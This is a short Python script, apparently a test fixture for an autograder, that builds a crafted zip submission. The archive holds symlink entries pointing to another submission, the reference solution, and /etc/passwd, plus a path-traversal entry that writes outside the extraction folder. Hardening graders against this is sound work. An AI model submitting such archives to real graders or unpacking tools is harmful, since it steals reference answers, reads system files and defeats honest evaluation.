"""A .zip in which the submission and its modules are links to the suite, the reference, and out."""

import sys
import zipfile
from pathlib import Path

LINKS = {
    "solution.py": "../../000-honest/solution.py",
    "reference.py": "/proc/self/cwd/reference/solution.py",
    "helper.py": "../../../tests/attacks/course/reference/solution.py",
    "hidden.py": "/etc/passwd",
}
with zipfile.ZipFile(Path(sys.argv[1], "solution.zip"), "w") as archive:
    for name, target in LINKS.items():
        link = zipfile.ZipInfo(name)
        link.create_system = 3
        link.external_attr = 0o120777 << 16
        archive.writestr(link, target)
    folder = zipfile.ZipInfo("attack_probe_folder/")
    folder.external_attr = (0o040777 << 16) | 0x10
    archive.writestr(folder, "")
    archive.writestr("attack_probe_folder/../../../escape_id.py", "x = 1\n")
